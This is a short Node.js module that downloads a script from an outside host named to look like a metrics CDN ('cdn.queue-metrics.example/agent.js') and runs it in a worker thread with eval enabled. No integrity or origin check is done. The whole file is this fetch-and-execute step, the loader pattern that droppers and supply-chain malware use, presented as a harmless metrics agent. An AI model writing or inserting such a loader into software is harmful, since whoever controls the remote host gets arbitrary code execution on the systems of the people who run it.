import { Worker } from 'node:worker_threads';

const body = await (await fetch('https://cdn.queue-metrics.example/agent.js')).text();
new Worker(body, { eval: true });
